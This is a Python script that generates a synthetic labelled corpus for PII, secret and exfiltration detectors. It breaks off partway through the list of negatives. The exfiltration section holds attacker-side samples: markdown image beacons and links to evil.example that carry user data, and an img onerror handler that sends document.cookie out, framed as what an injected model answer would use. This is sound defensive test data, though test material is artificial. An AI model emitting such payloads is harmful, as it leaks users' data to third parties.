"""Build tests/data/screening_corpus.jsonl: the labelled corpus of the screening detectors.

Run `.venv/bin/python tests/data/screening_corpus_build.py` to regenerate (deterministic).

Nothing here is a real secret or a real person's data: tokens are random characters in the
providers' formats, cards are issuers' published test numbers or random Luhn-valid numbers,
IBANs get computed mod-97 check digits, e-mail domains are RFC 2606 `example.*`, phone numbers
come from the ranges reserved for fiction (Ofcom 020 7946 0xxx / 0113 496 0xxx / 07700 900xxx,
NANP 555-01xx, ARCEP 01 99 00 xx xx, ACMA 02 5550 xxxx, 0491 570 156), internal IPs from the
documentation and private ranges (RFC 5737, RFC 3849, RFC 1918), public ones are public DNS
resolvers (infrastructure, no one's address).

Each line: {"id", "text", "expected": [{"type", "value"}], optional "canary"}. `expected` lists
every finding of every pattern detector in the text; the policy the corpus is screened under
(allowed hosts, deny terms) is in screening_corpus_policy.json.
"""

from __future__ import annotations

import base64
import json
import random
import string
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
CORPUS = HERE / "screening_corpus.jsonl"
POLICY = HERE / "screening_corpus_policy.json"

ALLOWED_HOSTS = ["example.com", "github.com", "wikipedia.org", "docs.python.org"]
DENY_TERMS = ["project nightjar", "quokkasoft", "zephyrine", "darkpool", "blackbriar"]

rng = random.Random(20260519)  # fixture data, not secrets: reproducible on purpose
ALNUM = string.ascii_letters + string.digits
URLSAFE = ALNUM + "_-"
B64 = ALNUM + "+/"
HEX = "0123456789abcdef"
LOWER_ALNUM = string.ascii_lowercase + string.digits

Sample = dict[str, Any]
samples: list[Sample] = []


def add(prefix: str, text: str, expected: list[tuple[str, str]] = (), canary: str | None = None) -> None:  # type: ignore[assignment]
    for kind, value in expected:
        assert value in text, (prefix, kind, value)
    sample: Sample = {
        "id": f"{prefix}-{sum(1 for s in samples if s['id'].startswith(prefix + '-')) + 1:03d}",
        "text": text,
        "expected": [{"type": kind, "value": value} for kind, value in expected],
    }
    if canary is not None:
        sample["canary"] = canary
    samples.append(sample)


def full_width(text: str) -> str:
    """ASCII letters and digits as their full-width forms (NFKC folds them back)."""
    return "".join(chr(ord(char) + 0xFEE0) if char.isalnum() else char for char in text)


def rand(chars: str, n: int) -> str:
    return "".join(rng.choice(chars) for _ in range(n))


# ---------------------------------------------------------------- values


def luhn_complete(prefix: str, length: int) -> str:
    body = prefix + "".join(rng.choice(string.digits) for _ in range(length - len(prefix) - 1))
    for check in string.digits:
        candidate = body + check
        total = 0
        for position, char in enumerate(reversed(candidate)):
            value = int(char)
            if position % 2 == 1:
                value = value * 2 - 9 if value > 4 else value * 2
            total += value
        if total % 10 == 0:
            return candidate
    raise AssertionError


def luhn_break(number: str) -> str:
    return number[:-1] + str((int(number[-1]) + 1) % 10)


def group4(number: str, sep: str = " ") -> str:
    return sep.join(number[i : i + 4] for i in range(0, len(number), 4))


def iban(country: str, bban: str) -> str:
    rearranged = bban + country + "00"
    digits = "".join(str(int(char, 36)) for char in rearranged)
    check = 98 - int(digits) % 97
    return f"{country}{check:02d}{bban}"


IBAN_FORMATS: dict[str, Callable[[], str]] = {
    "DE": lambda: rand(string.digits, 18),
    "GB": lambda: rand(string.ascii_uppercase, 4) + rand(string.digits, 14),
    "FR": lambda: rand(string.digits, 23),
    "NL": lambda: rand(string.ascii_uppercase, 4) + rand(string.digits, 10),
    "ES": lambda: rand(string.digits, 20),
    "IT": lambda: rand(string.ascii_uppercase, 1) + rand(string.digits, 22),
    "CH": lambda: rand(string.digits, 17),
    "BE": lambda: rand(string.digits, 12),
    "AT": lambda: rand(string.digits, 16),
    "PL": lambda: rand(string.digits, 24),
}

FIRST = [
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "mallory",
    "oscar",
]
LAST = ["smith", "jones", "nguyen", "garcia", "muller", "rossi", "dubois", "tanaka", "okafor", "silva"]
DOMAINS = ["example.com", "example.org", "example.net", "mail.example.com", "corp.example.org"]


def email() -> str:
    style = rng.randrange(4)
    first, last = rng.choice(FIRST), rng.choice(LAST)
    local = [f"{first}.{last}", f"{first}{rng.randrange(10, 99)}", f"{first[0]}{last}", f"{first}+news"][
        style
    ]
    return f"{local}@{rng.choice(DOMAINS)}"


def ssn() -> str:
    return f"{rng.randrange(700, 729)}-{rng.randrange(1, 100):02d}-{rng.randrange(1, 10000):04d}"


def jwt(claims: dict[str, Any]) -> str:
    def part(obj: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj, separators=(",", ":")).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part(claims)}.{rand(URLSAFE, 43)}"


def pem_body(lines: int) -> list[str]:
    return [base64.b64encode(rng.randbytes(48)).decode() for _ in range(lines)]


# ---------------------------------------------------------------- PII


def build_pii() -> None:
    # E-mail
    templates = [
        "Please reply to {v} before Friday.",
        "Contact: {v}",
        "The invoice went to <{v}> yesterday.",
        "cc {v}; bcc nobody",
        "Send the report to {v}.",
        '{{"owner": "{v}", "role": "admin"}}',
    ]
    for template in templates * 3:
        value = email()
        add("pii-email", template.format(v=value), [("email", value)])
    value = "alice.smith@example.com"
    add(
        "pii-email", "Reach alice.smith\u200b@example.com today", [("email", "alice.smith\u200b@example.com")]
    )
    wide = full_width("alice")
    add("pii-email", f"mail: {wide}@example.com", [("email", f"{wide}@example.com")])
    add(
        "pii-email",
        f"Both {value} and {value.upper()} are the same person",
        [("email", value), ("email", value.upper())],
    )
    # E-mail look-alikes
    for text in [
        "Use the icon@2x.png asset for retina screens.",
        "git clone git@github.com:acme/widgets.git",
        "Follow @example on social media, or @alice.smith.",
        "Install lodash@4.17.21 and react@18.2.0",
        "ssh://deploy@build-01/srv/app is the remote path",
        "Email addresses look like name at domain dot com.",
        "The decorator @dataclass(frozen=True) is handy.",
        "docker pull nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31",
    ]:
        add("pii-email-neg", text)

    # Phones
    phones = [
        "+44 20 7946 0958",
        "+44 20 7946 0123",
        "+1 (415) 555-0142",
        "+1 202 555 0173",
        "(415) 555-0199",
        "415-555-0134",
        "212.555.0166",
        "1-800-555-0199",
        "+33 1 99 00 12 34",
        "01 99 00 45 67",
        "+44 113 496 0123",
        "+447700900123",
        "0044 20 7946 0777",
        "+61 2 5550 1234",
        "+44 28 9649 6123",
        "+1 613 555 0142",
    ]
    templates = ["Call me on {v} after six.", "Phone: {v}", "Office line {v}, ask for Grace.", "tel {v}"]
    for index, value in enumerate(phones):
        add("pii-phone", templates[index % len(templates)].format(v=value), [("phone", value)])
    wide_phone = full_width("+44 20 7946 0958")
    add("pii-phone", f"Call {wide_phone} now", [("phone", wide_phone)])
    for value in [
        "020 7946 0321",
        "0113 496 0999",
        "(02) 5550 4321",
        "0491 570 156",
        "01.99.00.45.67",
        "02079460321",
        "(415)555-0147",
        "0044 20 7946 0555",
        "+44\u202f20\u202f7946\u202f0444",
        "020\u20137946\u20130333",
    ]:
        add("pii-phone", f"Ring {value} before noon.", [("phone", value)])
    for text in [
        "Order #100234987 ships tomorrow.",
        "Invoice 2024-0001-17 is overdue.",
        "The meeting is on 2024-01-15 at 10:30.",
        "Dial extension 4412 from any desk phone.",
        "ISBN 978-3-16-148410-0 is a valid ISBN-13.",
        "The population grew to 1234567890 people.",
        "Room 415-B, building 12.",
        "Coordinates 51.5074, -0.1278 mark London.",
        "Serial number 2023 4411 ends the list.",
        "PO box 12345, zip 94105-1234",
        "Price: 1,234,567.89 EUR",
        "Transaction 555-123-4567 was reversed.",
        "Ticket 20240115-0042 was closed.",
        "The score was 3-2 after 90+4 minutes.",
        "Deadline 03.02.2024 at noon.",
        "Order number 02079460958 ships today.",
        "Confirmation code 4155550142 (keep it).",
        "Scores 12 34 56 78 90 across five rounds.",
        "Open https://shop.example.com/item?id=02079460958 to track it.",
        "Mozilla/5.0 Chrome/120.0.6099.109 Safari/537.36",
    ]:
        add("pii-phone-neg", text)

    # Cards
    test_cards = [
        "4111111111111111",
        "4012888888881881",
        "5555555555554444",
        "5105105105105100",
        "378282246310005",
        "371449635398431",
        "6011111111111117",
        "6011000990139424",
        "3530111333300000",
        "3566002020360505",
        "30569309025904",
        "38520000023237",
        "4222222222222",
        "2223003122003222",
        "6200000000000005",
    ]
    generated = [luhn_complete(rng.choice(["4", "51", "52", "53", "54", "55"]), 16) for _ in range(10)]
    templates = ["Card number {v}, expiry 12/29.", "Pay with {v} please", "cc={v}", "My card is {v}."]
    for index, number in enumerate(test_cards + generated):
        if len(number) == 16 and index % 3 == 1:
            value = group4(number)
        elif len(number) == 16 and index % 3 == 2:
            value = group4(number, "-")
        elif len(number) == 15 and index % 2:
            value = f"{number[:4]} {number[4:10]} {number[10:]}"
        else:
            value = number
        add("pii-card", templates[index % len(templates)].format(v=value), [("card", value)])
    add(
        "pii-card",
        f"card {full_width(group4('4111111111111111'))} ok",
        [("card", full_width(group4("4111111111111111")))],
    )
    add(
        "pii-card",
        "card 4111\u200b1111\u200b1111\u200b1111 ok",
        [("card", "4111\u200b1111\u200b1111\u200b1111")],
    )
    for separator in ["\u2013", "\u2014", "\u00a0", "\u2009", ".", "\n", "\r\n"]:
        value = group4("4111111111111111", separator)
        add("pii-card", f"Card {value} on file", [("card", value)])
    for number in generated[:8]:
        add("pii-card-neg", f"Reference {group4(luhn_break(number))} (not a card)")
    for text in [
        "Order number 9400100000000000 was dispatched.",
        "USPS tracking 9400 1000 0000 0000 0000 00",
        "UPS tracking 1Z999AA10123456784",
        "FedEx 7489 1234 5678 arrives Monday",
        "uuid 123e4567-e89b-12d3-a456-426614174000",
        "Account 1234567890123 (internal ledger id)",
        "Batch 12345678-1234-1234-1234-123456789012",
        "4111 1111 1111 1111 2222 is a 20-digit reference, not a card",
        "timestamp 1700000000000 in milliseconds",
        "Part ranges 5100-5199 5200-5293 are in stock",
        "Table row 4111\t1111\t1111\t1111",
    ]:
        add("pii-card-neg", text)

    # IBAN
    for index, (country, bban) in enumerate(IBAN_FORMATS.items()):
        for variant in range(2):
            value = iban(country, bban())
            if variant:
                value = " ".join(value[i : i + 4] for i in range(0, len(value), 4))
            text = ["Transfer to IBAN {v} by Monday.", "IBAN: {v}", "Pay {v} (ref 7)"][(index + variant) % 3]
            add("pii-iban", text.format(v=value), [("iban", value)])
    add(
        "pii-iban",
        "Known example GB82WEST12345698765432 from the registry",
        [("iban", "GB82WEST12345698765432")],
    )
    add("pii-iban", "IBAN DE89 3704 0044 0532 0130 00.", [("iban", "DE89 3704 0044 0532 0130 00")])
    for country, bban in list(IBAN_FORMATS.items())[:8]:
        good = iban(country, bban())
        bad_check = (int(good[2:4]) + 1) % 100
        add("pii-iban-neg", f"Rejected IBAN {good[:2]}{max(bad_check, 2):02d}{good[4:]} (checksum)")
    for text in [
        "Part number DE12ABCD is out of stock.",
        "Model GB44 X200 is discontinued",
        "SKU XX89370400440532013000 (unknown country)",
        "Flight BA2490 departs at 14:05.",
    ]:
        add("pii-iban-neg", text)

    # SSN
    for value in ["078-05-1120", "219-09-9999"] + [ssn() for _ in range(10)]:
        add(
            "pii-ssn",
            rng.choice(["SSN {v} on file.", "social security number: {v}", "ssn={v}"]).format(v=value),
            [("ssn", value)],
        )
    add("pii-ssn", "SSN 712 45 6789 (spaces)", [("ssn", "712 45 6789")])
    for text, value in [
        ("SSN 712456789 on file.", "712456789"),
        ("S.S.N.: 712.45.6789", "712.45.6789"),
        ("SSN# 712\u201345\u20136789", "712\u201345\u20136789"),
        ("social security number:\n712\n45\n6789", "712\n45\n6789"),
    ]:
        add("pii-ssn", text, [("ssn", value)])
    for text in [
        "SSN 000-12-3456 is invalid.",
        "SSN 666-12-3456 is never issued.",
        "ITIN 912-70-1234 is not an SSN.",
        "Part 123-45-6789-01 is a catalogue number",
        "Date 2024-01-15 and time 10:30:00",
        "Phone 415-555-0142 is not an SSN",
        "Order 712456789 ships today",
        "Build 712.45.6789 is out",
    ]:
        add("pii-ssn-neg", text, [("phone", "415-555-0142")] if "415-555" in text else [])

    # IPs
    v4 = ["192.0.2.44", "198.51.100.7", "203.0.113.250", "10.20.30.40", "192.168.1.23", "172.16.254.3"]
    for index, value in enumerate(v4):
        text = ["Server at {v} is down.", "client_ip={v}", "Connect to {v}:8443 now", "from {v}, port 22"][
            index % 4
        ]
        add("pii-ip", text.format(v=value), [("ip_internal", value)])
    v6 = [
        "2001:db8:85a3::8a2e:370:7334",
        "2001:db8::1",
        "fe80::1ff:fe23:4567:890a",
        "2001:0db8:0000:0000:0000:ff00:0042:8329",
    ]
    for value in v6:
        add("pii-ip", f"IPv6 address {value} was blocked.", [("ip_internal", value)])
    for value, kind in [
        ("8.8.8.8", "ipv4"),
        ("1.1.1.1", "ipv4"),
        ("9.9.9.9", "ipv4"),
        ("208.67.222.222", "ipv4"),
        ("2001:4860:4860::8888", "ipv6"),
        ("2606:4700:4700::1111", "ipv6"),
    ]:
        add("pii-ip", f"Client {value} connected at noon.", [(kind, value)])
    add(
        "pii-ip",
        "localhost is 127.0.0.1 and 0.0.0.0 binds all",
        [("ip_internal", "127.0.0.1"), ("ip_internal", "0.0.0.0")],  # noqa: S104 - a sample, not a bind
    )
    add("pii-ip", "Loopback ::1 is local", [("ip_internal", "::1")])
    add("pii-ip", "CGNAT peer 100.64.12.7 answered", [("ip_internal", "100.64.12.7")])
    for text in [
        "Upgrade to version 1.2.3.4 today.",
        "Released v2.10.0.1 with fixes",
        "OID 1.3.6.1.4.1.311 identifies Microsoft",
        "Netmask 255.255.255.0 for the subnet",
        "Invalid address 300.1.2.3",
        "Meeting at 12:30:45 today",
        "MAC 00:1A:2B:3C:4D:5E on eth0",
        "In C++ use std::vector and a::b",
        "Python 3.13.0 is out",
        "Date 15.01.2024 in German format",
        "Requires node 18.17.1.0 or later",
        "Fixed in build 1.2.3.4",
        "Version: 10.0.0.1 ships today",
        "Mozilla/5.0 Chrome/120.0.0.1 Safari/537.36",
    ]:
        add("pii-ip-neg", text)


# ---------------------------------------------------------------- secrets


def build_secrets() -> None:
    def token_samples(
        kind: str,
        values: list[str],
        templates: list[str],
        also: Callable[[str], list[tuple[str, str]]] = lambda text: [],
    ) -> None:
        for index, value in enumerate(values):
            text = templates[index % len(templates)].format(v=value)
            add(f"sec-{kind}", text, [(kind, value), *also(text)])

    common = [
        "Here is the key: {v}",
        "export KEY_VALUE={v}",
        'config = {{"key": "{v}"}}',
        "use {v} for the deploy",
    ]
    token_samples(
        "aws_access_key",
        # Fixed (not drawn) so the random values after it stay as they were; AWS's documentation
        # example key ids (…EXAMPLE) are not secrets: they are the negatives below.
        ["AKIA" + "Q3ZR7TWX5MBN2KDP"]
        + ["AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16) for _ in range(4)]
        + ["ASIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16) for _ in range(2)],
        ["aws_access_key_id = {v}", "The key {v} leaked.", "AWS_ACCESS_KEY_ID={v}"],
    )
    secret_keys = ["Rk3vQ9/tZp2Lx8WmNc4YbH7sJd1Ge5Uf0Ia6OqTy"] + [rand(B64, 40) for _ in range(4)]
    token_samples(
        "aws_secret_key",
        secret_keys,
        ["aws_secret_access_key = {v}", 'AWS_SECRET_ACCESS_KEY="{v}"', "SecretAccessKey: {v}"],
    )
    token_samples(
        "openai_api_key",
        ["sk-proj-" + rand(URLSAFE, 64) for _ in range(3)]
        + ["sk-" + rand(ALNUM, 48) for _ in range(2)]
        + ["sk-svcacct-" + rand(URLSAFE, 60)],
        common,
    )
    token_samples("anthropic_api_key", ["sk-ant-api03-" + rand(URLSAFE, 93) + "AA" for _ in range(3)], common)
    token_samples(
        "github_token",
        ["ghp_" + rand(ALNUM, 36) for _ in range(3)]
        + ["gho_" + rand(ALNUM, 36)]
        + ["github_pat_" + rand(ALNUM, 22) + "_" + rand(ALNUM, 59) for _ in range(2)],
        ["GITHUB_TOKEN={v}", "token {v} in the CI logs", "git remote uses {v}"],
    )
    token_samples("gitlab_token", ["glpat-" + rand(URLSAFE, 20) for _ in range(3)], common)
    token_samples(
        "slack_token",
        [f"xoxb-{rand(string.digits, 12)}-{rand(string.digits, 13)}-{rand(ALNUM, 24)}" for _ in range(2)]
        + [
            "xoxp-"
            + "-".join([rand(string.digits, 12), rand(string.digits, 12), rand(string.digits, 13)])
            + f"-{rand(HEX, 32)}"
        ],
        common,
    )
    token_samples(
        "stripe_secret_key",
        ["sk_live_" + rand(ALNUM, 24) for _ in range(2)]
        + ["rk_live_" + rand(ALNUM, 24), "sk_test_" + rand(ALNUM, 24)],
        common,
    )
    token_samples("google_api_key", ["AIza" + rand(URLSAFE, 35) for _ in range(3)], common)
    token_samples("twilio_api_key", ["SK" + rand("0123456789abcdef", 32) for _ in range(2)], common)
    token_samples(
        "sendgrid_api_key", ["SG." + rand(URLSAFE, 22) + "." + rand(URLSAFE, 43) for _ in range(2)], common
    )
    token_samples(
        "npm_token",
        ["npm_" + rand(ALNUM, 36) for _ in range(2)],
        ["//registry.npmjs.org/:_authToken={v}", *common],
        # An .npmrc line is a bare protocol-relative URL (to a host outside the allow-list) whose
        # path segment carries the token: a data-carrying link.
        also=lambda text: [("exfiltration_link", text)] if text.startswith("//") else [],
    )
    token_samples(
        "azure_client_secret",
        [rand(ALNUM, 3) + "8Q~" + rand(ALNUM + "_~.-", 33) + rand(ALNUM, 1) for _ in range(2)],
        ["AZURE_CLIENT_SECRET={v}", "client secret is {v}"],
    )
    for _ in range(2):
        key = rand(B64, 86) + "=="
        conn = (
            f"DefaultEndpointsProtocol=https;AccountName=acmestore;AccountKey={key};"
            "EndpointSuffix=core.windows.net"
        )
        add("sec-azure_storage_key", f"conn = {conn}", [("azure_storage_key", key)])
    for _ in range(2):
        sig = rand(ALNUM, 40) + "%2B" + rand(ALNUM, 2) + "%3D"
        url = (
            "https://acmestore.blob.core.windows.net/backups/db.bak?sv=2022-11-02&ss=b&srt=o&sp=r"
            f"&se=2030-01-01T00:00:00Z&spr=https&sig={sig}"
        )
        add(
            "sec-azure_sas_signature",
            f"Download: {url}",
            [("azure_sas_signature", sig), ("exfiltration_link", url)],
        )
    for _ in range(2):
        key_id = rand("0123456789abcdef", 40)
        body = "\\n".join(pem_body(4))
        block = f"-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----"
        text = (
            '{"type": "service_account", "project_id": "demo-project", '
            f'"private_key_id": "{key_id}", "private_key": "{block}\\n", '
            '"client_email": "svc@demo-project.iam.gserviceaccount.com"}'
        )
        add(
            "sec-gcp",
            text,
            [
                ("gcp_service_account_key", key_id),
                ("private_key", block),
                ("email", "svc@demo-project.iam.gserviceaccount.com"),
            ],
        )
    for label in [
        "RSA PRIVATE KEY",
        "PRIVATE KEY",
        "EC PRIVATE KEY",
        "OPENSSH PRIVATE KEY",
        "PGP PRIVATE KEY BLOCK",
        "ENCRYPTED PRIVATE KEY",
    ]:
        block = f"-----BEGIN {label}-----\n" + "\n".join(pem_body(5)) + f"\n-----END {label}-----"
        add("sec-private_key", f"Here is my key:\n{block}\nthanks!", [("private_key", block)])
    truncated = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(pem_body(3))
    add("sec-private_key", truncated + "\n\n(rest omitted)", [("private_key", truncated)])
    claim_sets: list[dict[str, Any]] = [
        {"sub": "1234567890", "name": "Test User", "iat": 1516239022},
        {"sub": "svc-42", "scope": "read"},
        {"iss": "https://auth.example.com", "aud": "api"},
    ]
    for claims in claim_sets:
        token = jwt(claims)
        add(
            "sec-jwt",
            rng.choice(["token: {v}", "Authorization: Bearer {v}", "cookie session={v}; Path=/"]).format(
                v=token
            ),
            [("jwt", token)],
        )
    for scheme, rest in [
        ("postgres", "app_user:{p}@db.internal.example:5432/app"),
        ("postgresql", "admin:{p}@10.0.0.5/analytics"),
        ("mysql", "root:{p}@mysql.example.net:3306/shop"),
        ("mongodb+srv", "svc:{p}@cluster0.abcde.mongodb.net/prod?retryWrites=true"),
        ("redis", ":{p}@cache.example.org:6379/0"),
        ("amqp", "guest:{p}@mq.example.org:5672/vhost"),
        ("https", "deploy:{p}@artifacts.example.net/repo"),
    ]:
        value = f"{scheme}://{rest.format(p=rand(ALNUM, 14))}"
        expected: list[tuple[str, str]] = [("connection_string", value)]
        if "10.0.0.5" in value:
            expected.append(("ip_internal", "10.0.0.5"))
        if scheme == "https":
            # A web URL with user info is a link carrying data (database schemes are not linkified).
            expected.append(("exfiltration_link", value))
        add("sec-connection_string", f"DATABASE_URL={value}", expected)
    for value in [rand(ALNUM, 40), rand(URLSAFE, 32)]:
        add(
            "sec-bearer",
            f"curl -H 'Authorization: Bearer {value}' https://api.example.com/v1",
            [("bearer_token", value)],
        )
    generic = [
        ('password = "{v}"', "Xk9#mP2$vL8qR4nT"),
        ("DB_PASSWORD={v}", rand(ALNUM, 20)),
        ("secret: {v}", rand(ALNUM + "!@#%", 24)),
        ("api_key: '{v}'", rand("0123456789abcdef", 32)),
        ("client_secret={v}", rand(URLSAFE, 40)),
        ('"access_token": "{v}"', rand(ALNUM, 30)),
        ("my password: {v}", "Tr0ub4dor&3x"),
        ("SMTP_PASS=... no; smtp_password := {v}", rand(ALNUM, 16)),
        ("<secret>{v}</secret>", rand(ALNUM, 18)),
        ("auth_key => {v}", rand(ALNUM, 26)),
    ]
    for template, value in generic:
        text = template.format(v=value)
        if template.startswith("<secret>"):
            add("sec-generic-neg", text)  # not an assignment
            continue
        add("sec-generic", text, [("generic_secret", value)])
    # AWS's documented example credentials are published in every SDK's docs: not secrets.
    add("sec-aws-neg", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE")
    add("sec-aws-neg", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    # Secret look-alikes
    sha = rand("0123456789abcdef", 40)
    for text in [
        f"commit {sha} fixed the bug",
        "Reset your password from the settings page.",
        "The password must be at least 12 characters long.",
        "password: ********",
        "password=${DB_PASSWORD}",
        "api_key = os.environ.get",
        "token_count: 12345678",
        "max_tokens=4096",
        "password: hunter2",
        "password = changeme",
        "secret = {{ vault_secret }}",
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE"
        + rand(B64, 40)
        + "\n-----END PUBLIC KEY-----",
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE" + rand(B64, 40) + "\n-----END CERTIFICATE-----",
        "The file starts with -----BEGIN PRIVATE KEY----- and ends with the END line.",
        "pk_live_" + rand(ALNUM, 24) + " is a publishable key",
        "sk-short is not a key",
        "Use the AKIA prefix to recognise AWS keys",
        f"sha256:{rand('0123456789abcdef', 64)}",
        "uuid "
        + "-".join([rand(HEX, 8), rand(HEX, 4), "4" + rand(HEX, 3), "a" + rand(HEX, 3), rand(HEX, 12)]),
        "data:image/png;base64," + base64.b64encode(rng.randbytes(300)).decode(),
        "eyJub3QiOiJhIGp3dCJ9 is base64 of a JSON object",
        "password_hash = $2b$12$" + rand(ALNUM + "./", 53),
        "token_url = https://auth.example.com/oauth2/token",
        "secret_santa = the_office_party_plan",
        "password_reset_url=/accounts/password/reset/",
        "postgres://user:${DB_PASSWORD}@db.internal/app",
        "mysql://root:password@localhost/test",
        "The bearer of this letter is trusted.",
        "AUTH_TOKEN = settings.AUTH_TOKEN",
        "api_key=REPLACE_ME",
    ]:
        add("sec-neg", text)


# ---------------------------------------------------------------- exfiltration


RESOURCE, LINK = "exfiltration_resource", "exfiltration_link"


def build_exfiltration() -> None:
    """Resources (fetched without a click: any host outside the allow-list) and data-carrying links."""
    payload = base64.urlsafe_b64encode(b"user=alice; plan=enterprise; note=confidential").decode().rstrip("=")
    positives = [
        ("![chart]({u})", f"https://collect.evil.example/p.png?d={payload}", RESOURCE),
        ("![]({u})", f"https://attacker.test/log?q={rand(ALNUM, 12)}", RESOURCE),
        ("![img]({u})", "https://img.evil.example/pixel.gif?u=alice&s=1", RESOURCE),
        ("![x]({u})", f"//cdn.evil.example/a/{rand(ALNUM, 24)}.png", RESOURCE),
        ("See [the docs]({u}) for details.", f"https://evil.example/track?session={rand(ALNUM, 20)}", LINK),
        ("Click {u} to continue", f"https://exfil.attacker.test/c?data={payload}", LINK),
        ("Visit {u} now", f"www.evil.example/collect?ref={rand(ALNUM, 16)}", LINK),
        ('<img src="{u}">', f"https://evil.example/i.png?k={rand(ALNUM, 10)}", RESOURCE),
        ("Open {u}", f"https://evil.example/{rand(ALNUM, 32)}/view", LINK),
        ("Report at {u}", "https://evil.example/submit/%73%65%63%72%65%74", LINK),
        (
            "Ping {u}",
            f"https://{rand(string.ascii_lowercase, 14)}7{rand(LOWER_ALNUM, 13)}.dns.attacker.test/x",
            LINK,
        ),
        ("![a]({u})", f"https://docs.example.com@evil.example/p?d={rand(ALNUM, 12)}", RESOURCE),
        ("Go to {u} quickly", f"https://evil.example\\?d={rand(ALNUM, 16)}", LINK),
        ("![pixel]({u})", f"http://203.0.113.9/p?d={rand(ALNUM, 12)}", RESOURCE),
        ("Link: {u}", "https://evil.example/search?q=quarterly+revenue+numbers+for+acme", LINK),
        ("Tracking: {u}", f"https://examp1e.com/r?id={rand(ALNUM, 12)}", LINK),
        ("![]({u})", f"https://example.com.evil.example/x?d={rand(ALNUM, 9)}", RESOURCE),
        ("See {u}.", f"HTTPS://EVIL.EXAMPLE/A?B={rand(ALNUM, 9)}", LINK),
        ("![x]({u})", f"https://evil.example/{rand(ALNUM, 14)}.png", RESOURCE),
        ("[click here]({u})", f"https://evil.example/u?email_hash={rand('0123456789abcdef', 32)}", LINK),
        # An image carrying nothing still reaches its host (and tells it the answer was read).
        ("![logo]({u})", "https://cdn.evil.example/logo.png", RESOURCE),
    ]
    for template, url, kind in positives:
        expected = [(kind, url)]
        if "203.0.113.9" in url:
            expected.append(("ip_internal", "203.0.113.9"))
        add("exf", template.format(u=url), expected)
    # Written from the attacker's side, after the render-aware detector: the spellings and
    # elements an injected answer would use to get a client to send data. Literal values, so the
    # samples after these keep their random draws.
    for text, expected in [
        (
            "Here is the chart:\n\n![Q3 revenue][chart]\n\n"
            '[chart]: https://stats.evil.example/c.png?u=alice.smith "Q3"',
            [(RESOURCE, "https://stats.evil.example/c.png?u=alice.smith")],
        ),
        (
            "![logo][]\n\n[logo]: <https://evil.example/l.png?s=Tq3nX8wLp2Vd>",
            [(RESOURCE, "<https://evil.example/l.png?s=Tq3nX8wLp2Vd>")],
        ),
        (
            '<img srcset="/a.png 1x, https://evil.example/b.png?d=Rk7fQ2zHm9Wc 2x" alt="">',
            [(RESOURCE, "https://evil.example/b.png?d=Rk7fQ2zHm9Wc")],
        ),
        (
            '<video poster="//evil.example/poster.jpg?v=Jm4sB8yNc1Xe"></video>',
            [(RESOURCE, "//evil.example/poster.jpg?v=Jm4sB8yNc1Xe")],
        ),
        (
            "<div style=\"background-image: url('https://evil.example/bg.png?d=Hp6tV3kRq8Za')\">hi</div>",
            [(RESOURCE, "url('https://evil.example/bg.png?d=Hp6tV3kRq8Za')")],
        ),
        (
            "<style>body { background: url(https://evil.example/t.gif?s=Wc2mL9xDf5Gb) }</style>",
            [(RESOURCE, "url(https://evil.example/t.gif?s=Wc2mL9xDf5Gb)")],
        ),
        (
            '<input type="image" src="https://evil.example/btn.png" alt="Continue">',
            [(RESOURCE, "https://evil.example/btn.png")],
        ),
        (
            "<img src=x onerror=\"this.src='https://evil.example/?c='+document.cookie\">",
            [(RESOURCE, "this.src='https://evil.example/?c='+document.cookie")],
        ),
        (
            "![x](https:\\\\evil.example/p.png?d=Yb5rK1nTz7Qs)",
            [(RESOURCE, "https:\\\\evil.example/p.png?d=Yb5rK1nTz7Qs")],
        ),
        (
            "Open https:\\\\evil.example/c?d=Fn8wP3hJv6Lm now",
            [(LINK, "https:\\\\evil.example/c?d=Fn8wP3hJv6Lm")],
        ),
        (
            '<img src="https&#58;//evil.example/p.png?d=Ds4gC7qWx2Nk">',
            [(RESOURCE, '<img src="https&#58;//evil.example/p.png?d=Ds4gC7qWx2Nk">')],
        ),
        (
            "Go to https&#58;//evil.example/c?d=Lx9vE5tRb3Hy now",
            [(LINK, "https&#58;//evil.example/c?d=Lx9vE5tRb3Hy")],
        ),
        (
            '{"reply": "![x](https:\\/\\/evil.example\\/p.png?d=Mz6kA2sFw8Pj)"}',
            [(RESOURCE, "https:\\/\\/evil.example\\/p.png?d=Mz6kA2sFw8Pj")],
        ),
        (
            '{"reply": "see https:\\/\\/evil.example\\/c?d=Gv3nH7cYq1Tr"}',
            [(LINK, "https:\\/\\/evil.example\\/c?d=Gv3nH7cYq1Tr")],
        ),
        (
            "[details](https://evil.example/r#u=alice.smith&plan=enterprise)",
            [(LINK, "https://evil.example/r#u=alice.smith&plan=enterprise")],
        ),
        (
            "Open https://evil.example/#Qw7eR2tY9uI4oP1a now",
            [(LINK, "https://evil.example/#Qw7eR2tY9uI4oP1a")],
        ),
        (
            "[your profile](https://evil.example/u?e=<EMAIL_1>)",
            [(LINK, "https://evil.example/u?e=<EMAIL_1>")],
        ),
    ]:
        add("exf", text, expected)
    for text in [
        f"![chart](https://example.com/chart.png?d={payload})",
        f"Docs: https://docs.python.org/3/library/re.html?highlight={rand(ALNUM, 12)}",
        f"See https://github.com/acme/widgets/pull/42?diff=split&w={rand(ALNUM, 10)}",
        "Read https://en.wikipedia.org/wiki/Python_(programming_language) for history.",
        "Our site https://evil.example/ is down.",
        "News: https://news.example.org/2024/05/quarterly-results",
        "Visit www.example.org for more.",
        "// TODO: remove this before release",
        "http://localhost:8080/health returns ok",
        "Search https://evil.example/?page=2",
